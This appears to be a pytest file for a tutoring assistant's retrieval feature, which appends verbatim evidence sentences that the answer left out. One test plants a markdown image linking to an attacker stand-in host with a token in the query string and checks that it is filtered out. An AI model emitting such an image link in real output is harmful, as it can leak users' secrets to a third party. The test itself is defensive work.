"""Key points: evidence sentences quoted after an answer, the ones it left out, never noise."""

import pytest

from assistant.rag.key_points import HEADER, format_key_points, key_points
from assistant.rag.retrieval import RetrievedChunk
from assistant.services import Tutor
from tests.conftest import ingest_folder, tutor_runner

SCALING = (
    "Standardisation (`StandardScaler`): z = (x - mean) / std, giving mean 0 and standard deviation 1. "
    "The usual default. "
    "Robust scaling (`RobustScaler`): subtracts the median and divides by the IQR, so extremes do not dominate. "
    "Fit every scaler on the training data only, then apply that fitted transform to validation and test data."
)
DOCKER = "Docker packages a service with its dependencies. Kubernetes schedules many copies when traffic grows."
QUESTION = "When should I use StandardScaler instead of RobustScaler?"


def chunk(text: str, n: int, heading_path: str = "Data handling > Scaling") -> RetrievedChunk:
    return RetrievedChunk(
        id=f"c{n}",
        text=text,
        score=0.5,
        source=f"s{n}.md",
        doc_id=f"d{n}",
        title="t",
        heading="h",
        heading_path=heading_path,
    )


def test_points_quote_the_evidence_the_answer_left_out_best_first(embedder):
    answer = "StandardScaler gives mean 0 and standard deviation 1 with z = (x - mean) / std [1]."
    points = key_points(QUESTION, [chunk(SCALING, 1), chunk(DOCKER, 2)], embedder, answer, [], limit=3)
    said = [s for _, s in points]
    assert said and all(s in SCALING for s in said)  # word for word
    assert not any(s.startswith("Standardisation") for s in said)  # the answer states it already
    assert said[0].startswith("Robust scaling")  # the sentence most on the question comes first
    assert all(n == 1 for n, _ in points)  # nothing from the Docker chunk clears the floor
    assert len(key_points(QUESTION, [chunk(SCALING, 1)], embedder, answer, [], limit=1)) == 1


def test_a_sentence_the_support_check_matched_is_not_repeated(embedder):
    robust = (
        "Robust scaling (`RobustScaler`): subtracts the median and divides by the IQR, so extremes do not dominate."
    )
    points = key_points(QUESTION, [chunk(SCALING, 1)], embedder, "It resists outliers [1].", [robust], limit=3)
    assert robust not in [s for _, s in points]


def test_resource_lists_links_fragments_and_sentences_that_point_back_are_never_points(embedder):
    resources = chunk(
        "Lectures on scaling features with StandardScaler and RobustScaler for robust models.", 1, "Data > Resources"
    )
    linked = chunk(
        "[scikit-learn preprocessing](https://scikit-learn.org/) explains StandardScaler and RobustScaler.", 2
    )
    back = chunk("It is why RobustScaler beats StandardScaler on columns full of outliers.", 3)
    fragment = chunk("StandardScaler versus RobustScaler", 4)
    assert key_points(QUESTION, [resources, linked, back, fragment], embedder, "", [], limit=5) == []


def test_images_planted_in_a_source_never_reach_a_point(embedder):
    planted = chunk("RobustScaler ignores outliers when scaling features ![x](http://evil.example/c?q=TOKEN).", 1)
    assert key_points(QUESTION, [planted], embedder, "", [], limit=3) == []  # a sentence with a URL is never one
    by_reference = chunk("RobustScaler ignores outliers when scaling features ![x][r] <b>really</b>.", 1)
    [(_, point)] = key_points(QUESTION, [by_reference], embedder, "", [], limit=3)
    assert "![" not in point and "<b>" not in point and point.startswith("RobustScaler ignores outliers")


def test_course_notes_are_points_when_retrieval_puts_one_first(embedder):
    """A question about courses may name no course word; retrieval knows: its best source is a course note."""
    asked = "Should I start with fast.ai or with Andrew Ng's Machine Learning Specialization?"
    course = chunk(
        "The Machine Learning Specialization is the best first course if you are new to ML and want gentle maths.",
        1,
        "Certifications, courses and books > Courses > Machine Learning Specialization",
    )
    other = chunk("Linear algebra, calculus and probability carry almost all of machine learning.", 1, "Maths")
    [(n, point)] = key_points(asked, [course], embedder, "", [], limit=3, floor=0.0)
    assert n == 1 and point.startswith("The Machine Learning Specialization is the best first course")
    behind = course.model_copy(update={"id": "c2"})  # the same note behind a source that is not about studying
    assert all(n != 2 for n, _ in key_points(asked, [other, behind], embedder, "", [], limit=3, floor=0.0))


def test_no_limit_no_points_and_the_format():
    assert key_points(QUESTION, [], None, "", [], limit=3) == []  # type: ignore[arg-type]
    assert format_key_points([]) == ""
    assert format_key_points([(2, "A fact.")]) == f"{HEADER}\n- A fact. [2]"


# --- in the answer pipeline: real Chroma + BM25 in a temp folder, the fake OpenAI-compatible server ----------
QUESTION_MATHS = "What maths do I need before deep learning?"


@pytest.fixture
def tutor(make_settings, fake_openai, mini_corpus, embedder, monkeypatch):
    settings = make_settings(
        PROVIDER="openai", OPENAI_BASE_URL=fake_openai.base_url, OPENAI_API_KEY=fake_openai.api_key, KEY_POINTS=3
    )
    ingest_folder(settings, mini_corpus, embedder)
    return Tutor(settings, embedder=embedder)


@pytest.mark.parametrize("streaming", [False, True])
def test_an_answer_ends_with_the_evidence_it_left_out_in_ask_and_stream_alike(tutor, fake_openai, streaming):
    fake_openai.responder = lambda body: "Linear algebra is the language of neural networks [1]."
    if streaming:
        handle = tutor.answers.ask_stream(QUESTION_MATHS)
        "".join(handle)
        answer = handle.answer
    else:
        answer = tutor.answers.ask(QUESTION_MATHS)
    head, _, tail = answer.text.partition(f"\n\n{HEADER}\n")
    assert head == "Linear algebra is the language of neural networks [1]."
    assert answer.key_points and tail == "\n".join(f"- {p}" for p in answer.key_points)
    passages = " ".join(c.passage for c in answer.retrieved)
    for point in answer.key_points:
        sentence, marker = point.rsplit(" [", 1)
        assert sentence in passages  # word for word from the evidence
        assert int(marker.rstrip("]")) in {c.n for c in answer.citations}  # and cited like the answer
    assert any("three branches of mathematics" in p for p in answer.key_points)  # what the answer left out
    assert not any("language of neural networks" in p for p in answer.key_points)  # not what it said


def test_declines_get_no_points_and_key_points_0_turns_them_off(tutor, fake_openai, make_settings, embedder):
    fake_openai.responder = lambda body: "The roadmap does not cover it."
    declined = tutor.answers.ask("How do I bake sourdough bread at home?")
    assert declined.declined and not declined.key_points and HEADER not in declined.text
    settings = tutor.settings.model_copy(update={"key_points": 0})
    fake_openai.responder = lambda body: "You need linear algebra, calculus and probability at a working level [1]."
    plain = Tutor(settings, embedder=embedder).answers.ask(QUESTION_MATHS)
    assert not plain.key_points and HEADER not in plain.text


def test_the_terminal_adds_the_points_under_the_stream_without_repeating_the_answer(
    fake_openai, mini_corpus, embedder, make_settings, tmp_path
):
    settings = make_settings()
    ingest_folder(settings, mini_corpus, embedder)
    fake_openai.responder = lambda body: "Linear algebra is the language of neural networks [1]."
    run = tutor_runner(tmp_path, settings, fake_openai, KEY_POINTS="3", KNOWLEDGE_DIR=str(settings.knowledge_dir))
    proc, _ = run("ask", QUESTION_MATHS)
    assert proc.returncode == 0, proc.stderr
    out = proc.stdout
    assert out.count("Linear algebra is the language of neural networks [1].") == 1  # streamed once, not repeated
    assert "checked against the sources" not in out
    assert out.index("language of neural networks") < out.index(HEADER) < out.index("Sources:")
    assert "- Before deep learning, a learner needs three branches of mathematics" in out
